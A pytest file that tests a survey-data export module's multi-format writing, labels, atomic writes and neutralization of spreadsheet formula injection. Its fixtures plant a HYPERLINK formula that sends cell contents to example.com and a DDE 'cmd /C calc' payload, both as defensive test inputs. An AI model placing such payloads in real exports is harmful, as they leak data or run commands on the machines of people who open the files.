"""instrument.output: the scored table as CSV, XLSX, SAV, DTA and Parquet; labels in the
form's language; formula injection neutralized; every write atomic."""

from __future__ import annotations

import csv
from pathlib import Path

import numpy as np
import openpyxl
import pandas as pd
import pyreadstat
import pytest

from instrument.form import load_form
from instrument.output import FORMATS, neutralize, write_table
from instrument.returns import read_returns
from instrument.scoring import score_returns, table_labels

ROOT = Path(__file__).resolve().parents[1]
SAMPLES = ROOT / "data_samples" / "returned"
HYPERLINK = '=HYPERLINK("http://example.com/?x="&A1,"cliquez")'


@pytest.fixture(scope="module")
def form():
    return load_form(ROOT / "data_samples" / "form_member.yaml")


@pytest.fixture(scope="module")
def table(form) -> pd.DataFrame:
    returned = read_returns([SAMPLES], form, jobs=1)
    out = score_returns(returned, form)
    out.loc[0, "respondent"] = HYPERLINK  # a hostile respondent code
    out.loc[1, "consortium_id"] = "@SUM(1+1)*cmd|' /C calc'!A0"
    return out


@pytest.fixture(scope="module")
def labels(form, table):
    return table_labels(form, "fr", table.columns)


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+33 6", "'+33 6"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("R101", "R101"),
        ("", ""),
        ("a=b", "a=b"),
        (-2, -2),
        (-2.5, -2.5),
        (None, None),
    ],
)
def test_neutralize(value, expected):
    assert neutralize(value) == expected


def test_csv_neutralizes_formula_text_and_keeps_numbers(tmp_path, table, labels):
    path = write_table(table, tmp_path / "scores.csv", labels=labels[0], value_labels=labels[1])
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # Excel opens UTF-8 with accents right
    rows = list(csv.DictReader(raw.decode("utf-8-sig").splitlines()))
    assert rows[0]["respondent"] == "'" + HYPERLINK
    assert rows[1]["consortium_id"].startswith("'@SUM")
    assert [r["respondent"] for r in rows[2:]] == list(table["respondent"].iloc[2:])
    back = pd.read_csv(path, encoding="utf-8-sig")
    assert list(back.columns) == list(table.columns)
    np.testing.assert_allclose(back["trust"].to_numpy(float), table["trust"].to_numpy(float), rtol=1e-12)
    assert back["trcpi1"].dropna().astype(int).tolist() == table["trcpi1"].dropna().astype(int).tolist()
    # no cell of the file starts with a formula character any more
    for row in rows:
        for col, value in row.items():
            if col not in table.columns or not pd.api.types.is_numeric_dtype(table[col]):
                assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (col, value)


def test_xlsx_data_sheet_is_text_and_variables_sheet_has_the_labels(tmp_path, table, labels, form):
    path = write_table(table, tmp_path / "scores.xlsx", labels=labels[0], value_labels=labels[1])
    wb = openpyxl.load_workbook(path)
    assert wb.sheetnames == ["data", "variables"]
    ws = wb["data"]
    header = [c.value for c in ws[1]]
    assert header == list(table.columns)
    cell = ws.cell(2, header.index("respondent") + 1)
    assert cell.value == "'" + HYPERLINK and cell.data_type == "s"
    assert not [c.coordinate for row in ws.iter_rows() for c in row if c.data_type == "f"]
    assert ws.cell(3, header.index("trust") + 1).value == pytest.approx(table["trust"].iloc[1], rel=1e-12)
    variables = {r[0]: r[1:] for r in wb["variables"].iter_rows(min_row=2, values_only=True)}
    assert set(variables) == set(table.columns)
    first = form.items[0]
    assert variables[first.id][0] == form.texts[first.id]["fr"]
    assert variables[first.id][1].startswith("1 = Tout à fait en désaccord; 2 = Plutôt en désaccord")
    assert "8 = Je ne sais pas" in variables[first.id][1]
    assert variables["sector"][1] == "1 = Public; 2 = Communautaire; 3 = Privé"
    assert variables["trust"][0].startswith("Score : ")
    assert variables["trust_n"][0].startswith("Items répondus : ")


@pytest.mark.parametrize("lang", ["fr", "en"])
@pytest.mark.parametrize(("suffix", "reader"), [(".sav", pyreadstat.read_sav), (".dta", pyreadstat.read_dta)])
def test_sav_and_dta_carry_variable_and_value_labels(tmp_path, table, form, lang, suffix, reader):
    var_labels, value_labels = table_labels(form, lang, table.columns)
    path = write_table(table, tmp_path / f"scores{suffix}", labels=var_labels, value_labels=value_labels)
    data, meta = reader(str(path))
    assert list(data.columns) == list(table.columns)
    limit = 250 if suffix == ".sav" else 80
    first = form.items[0]
    assert meta.column_names_to_labels[first.id] == form.texts[first.id][lang][:limit]
    assert meta.column_names_to_labels["respondent"] == var_labels["respondent"]
    answers = {float(c.code): c.label[lang] for c in form.response_set.all_choices()}
    assert {float(k): v for k, v in meta.variable_value_labels[first.id].items()} == answers
    sector = next(q for q in form.context_block if q.id == "sector")
    assert {float(k): v for k, v in meta.variable_value_labels["sector"].items()} == {
        float(c.code): c.label[lang] for c in sector.choices
    }
    # the values themselves: codes, NA as missing, scores to full precision, text as is
    np.testing.assert_array_equal(data[first.id].to_numpy(float), table[first.id].astype("Float64").to_numpy(float, na_value=np.nan))
    np.testing.assert_allclose(data["trust"].to_numpy(float), table["trust"].to_numpy(float), rtol=1e-12)
    assert data["respondent"].iloc[0] == "'" + HYPERLINK  # neutralized too: these files end up in Excel


def test_control_characters_do_not_break_the_xlsx(tmp_path, table):
    """A vertical tab typed in a CSV's text answer: XML forbids it; the cell shows U+FFFD."""
    odd = table.copy()
    odd.loc[2, "consortium_id"] = "RC\x0b01"
    path = write_table(odd, tmp_path / "scores.xlsx")
    ws = openpyxl.load_workbook(path)["data"]
    col = list(odd.columns).index("consortium_id") + 1
    assert ws.cell(4, col).value == "RC\ufffd01"
    for suffix in (".csv", ".sav", ".dta", ".parquet"):
        write_table(odd, tmp_path / f"scores{suffix}")


def test_parquet_round_trip(tmp_path, table):
    path = write_table(table, tmp_path / "scores.parquet")
    back = pd.read_parquet(path)
    texts = [c for c in table.columns if pd.api.types.is_string_dtype(table[c]) or table[c].dtype == object]
    pd.testing.assert_frame_equal(back, table.assign(**{c: table[c].map(neutralize) for c in texts}))


def test_unknown_suffix_is_refused_by_name(tmp_path, table):
    with pytest.raises(ValueError, match=r"\.csv, \.xlsx, \.sav, \.dta, \.parquet; got 'scores\.ods'"):
        write_table(table, tmp_path / "scores.ods")
    assert not list(tmp_path.iterdir())


WRITERS = {
    ".csv": (pd.DataFrame, "to_csv"),
    ".parquet": (pd.DataFrame, "to_parquet"),
    ".sav": (pyreadstat, "write_sav"),
    ".dta": (pyreadstat, "write_dta"),
    ".xlsx": (openpyxl.Workbook, "save"),
}


@pytest.mark.parametrize("suffix", FORMATS)
def test_a_failed_write_leaves_the_previous_file_intact_and_no_temp_file(tmp_path, table, suffix, monkeypatch):
    out = tmp_path / "results" / f"scores{suffix}"
    write_table(table, out)  # the folder is created
    before = out.read_bytes()
    assert [p.name for p in out.parent.iterdir()] == [out.name]

    def fail_midway(*args, **kwargs):
        target = next(a for a in args if isinstance(a, str | Path))
        Path(target).write_bytes(b"half a file")
        raise OSError("disk full")

    owner, attr = WRITERS[suffix]
    monkeypatch.setattr(owner, attr, fail_midway)
    with pytest.raises(OSError, match="disk full"):
        write_table(table.iloc[:3], out)
    assert out.read_bytes() == before
    assert [p.name for p in out.parent.iterdir()] == [out.name]
